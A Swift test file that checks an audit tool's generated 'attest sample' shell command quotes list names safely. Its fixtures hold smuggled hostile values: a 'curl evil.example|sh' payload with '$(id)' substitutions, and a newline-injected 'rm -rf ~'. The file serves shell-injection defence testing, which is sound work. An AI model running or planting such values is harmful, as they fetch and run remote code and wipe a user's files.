import AttestCore
import Testing

@testable import AttestBundle

/// The `sample` column of an auditor package's `populations.csv`: a command an auditor pastes
/// into a shell, built from names the evidence file itself chose.
@Suite struct AuditPackagePopulationsTests {
    @Test func aPlainListNameIsWrittenAsIs() {
        #expect(
            AuditPackage.sampleCommand(evidence: "changes", rows: "changes")
                == "attest sample --evidence changes --rows changes --size N --seed S")
    }

    @Test func aListNameWithShellCharactersIsQuotedSoItCannotRunACommand() {
        let command = AuditPackage.sampleCommand(
            evidence: "leavers", rows: "x; curl evil.example|sh #'$(id)`id`")
        #expect(
            command
                == "attest sample --evidence leavers --rows 'x; curl evil.example|sh #'\\''$(id)`id`' "
                + "--size N --seed S")
    }

    @Test func aListNameWithALineBreakStaysInsideTheQuotes() {
        #expect(
            AuditPackage.sampleCommand(evidence: "leavers", rows: "a\nrm -rf ~")
                == "attest sample --evidence leavers --rows 'a\nrm -rf ~' --size N --seed S")
    }
}
